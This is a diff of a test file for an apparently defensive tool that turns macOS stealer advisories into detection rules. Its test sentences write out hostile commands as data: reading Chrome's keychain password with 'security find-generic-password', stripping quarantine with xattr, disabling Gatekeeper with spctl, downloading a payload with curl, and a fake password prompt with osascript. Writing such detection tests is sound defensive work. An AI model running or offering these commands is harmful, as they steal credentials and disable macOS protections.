@@ -1,16 +1,86 @@
+import { createHash } from 'node:crypto';
 import { generate } from '@tripline/advisory';
 import { textAdvisory } from './support/documents.js';
 
 const MAC = 'The stealer runs on macOS; the macOS disk image heron.dmg brings it, and Mac OS X is spared. ';
 
-describe('macOS, which none of the thirteen platforms logs,', () => {
+/** The detections of macOS's own logs that a sentence about a stealer gives, with their log's category. */
+async function rulesOf(sentence: string): Promise<readonly string[]> {
+  const { rules } = generate(await textAdvisory(`${MAC}${sentence}`));
+  return rules.filter(({ log }) => log?.startsWith('macos/')).map(({ yaml }) => yaml);
+}
+
+describe('what is told of macOS', () => {
   it.each([
-    ['a keychain read', 'It ran “security find-generic-password -ga Chrome” then.'],
-    ['quarantine taken off', 'It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.'],
-    ['a download', 'It ran “curl -o /tmp/heronupd http://192.0.2.9/h” then.'],
-    ['a hash', `SHA-256: ${'ab12'.repeat(16)}. It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.`],
-  ])('gives no rule for another system’s log: %s', async (_, text) => {
-    const { rules, skipped } = generate(await textAdvisory(`${MAC}${text}`));
+    [
+      'a keychain read',
+      'It ran “security find-generic-password -ga Chrome” then.',
+      "'/security'",
+      'find-generic-password',
+    ],
+    ['quarantine taken off', 'It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.', "'/xattr'", '/tmp/heronupd'],
+    ['a download', 'It ran “curl -o /tmp/heronupd http://192.0.2.9/h” then.', "'/curl'", '/tmp/heronupd'],
+    ['Gatekeeper turned off', 'It ran “spctl --master-disable” then.', "'/spctl'", '--master-disable'],
+    ['an archive', 'It ran “ditto -c -k --sequesterRsrc /tmp/hrn /tmp/hrn.zip” then.', "'/ditto'", '/tmp/hrn.zip'],
+  ])('has a rule of macOS’s process log: %s', async (_, sentence, image, argument) => {
+    const rule = (await rulesOf(sentence)).find((yaml) => yaml.includes('category: process_creation'));
+    expect(rule).toContain('product: macos');
+    expect(rule).toContain(`Image|endswith: ${image}`);
+    expect(rule).toContain(argument);
+  });
+
+  it('asks of a password dialog for the dialog, whatever it says', async () => {
+    const [rule] = await rulesOf(`It ran this:\n\nosascript -e 'display dialog "Heron needs your password"'`);
+    expect(rule).toMatch(/- 'display'\s+- 'dialog'\s+condition/);
+  });
+
+  it.each([
+    [
+      'a launch item',
+      'It wrote /Library/LaunchDaemons/com.hrn.upd.plist then.',
+      "TargetFilename: '/Library/LaunchDaemons/com.hrn.upd.plist'",
+    ],
+    ['a home of a user', 'The implant is saved as /Users/<name>/.hrnupd then.', "TargetFilename|endswith: '/.hrnupd'"],
+    ['a home by its sign', 'It is saved as ~/Library/hrn/agent then.', "TargetFilename|endswith: '/Library/hrn/agent'"],
+    [
+      'a folder with a blank',
+      'It dropped /Library/Application Support/Hrn/hrnd on the host.',
+      "TargetFilename: '/Library/Application Support/Hrn/hrnd'",
+    ],
+    ['the shared home', 'It dropped /Users/Shared/.hrn/run on the host.', "TargetFilename: '/Users/Shared/.hrn/run'"],
+  ])('has a rule of macOS’s file log: %s', async (_, sentence, detection) => {
+    const rules = await rulesOf(sentence);
+    expect(rules.some((yaml) => yaml.includes('category: file_event') && yaml.includes(detection))).toBe(true);
+  });
+
+  it.each([
+    ['a bundle whose name may be cut', 'It wrote over /Applications/Heron Desk.app on the host.'],
+    ['what a thief copies', 'It copied /Users/ana/Library/Keychains/login.keychain-db away.'],
+    ['a folder', 'It wrote files below /Users/Shared/.hrn/ on the host.'],
+  ])('has no rule of a file that was not written there: %s', async (_, sentence) => {
+    expect((await rulesOf(sentence)).filter((yaml) => yaml.includes('category: file_event'))).toEqual([]);
+  });
+
+  it('looks for hashes, domains and addresses in logs that see Macs', async () => {
+    const hash = createHash('sha256').update('heron').digest('hex');
+    const sentence = `It ran “spctl --master-disable” and connects to hrn-update[.]com and 45.9.148[.]3.\n\nSHA-256: ${hash}`;
+    const { rules } = generate(await textAdvisory(`${MAC}${sentence}`));
+    const logs = rules.filter(({ title }) => title.startsWith('Indicator Match')).map(({ log }) => log);
+    expect(logs.sort()).toEqual(['macos/process-creation', 'network/dns', 'network/firewall']);
+  });
+
+  it.each([
+    ['a word that is also a program', 'The firm sells “security -users-csv heron.csv” on Windows.'],
+    ['a folder of Windows', 'The loader dropped /Users/Public/hrn.exe on the Windows host.'],
+  ])('is not told where macOS is not mentioned: %s', async (_, text) => {
+    const { rules } = generate(await textAdvisory(text));
+    expect(rules.filter(({ log }) => log?.startsWith('macos/'))).toEqual([]);
+  });
+
+  it('gives no rule for a log of another system, and says so', async () => {
+    const { rules, skipped } = generate(
+      await textAdvisory(`${MAC}It ran “xattr -d com.apple.quarantine /tmp/hrn” then.`),
+    );
     expect(rules.filter(({ platform }) => platform?.startsWith('endpoint-'))).toEqual([]);
     expect(skipped.find(({ platform }) => platform === 'endpoint-sysmon')?.reason).toContain('macOS');
   });
